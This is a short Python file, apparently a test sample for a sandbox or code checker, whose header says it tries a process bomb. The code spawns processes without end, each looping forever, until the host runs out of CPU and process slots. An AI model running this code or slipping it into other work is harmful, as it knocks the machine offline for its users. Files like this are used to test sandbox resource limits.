# Tries: a process bomb through multiprocessing.
# ruff: noqa
import multiprocessing


def spin() -> None:
    while True:
        pass


while True:
    multiprocessing.Process(target=spin).start()
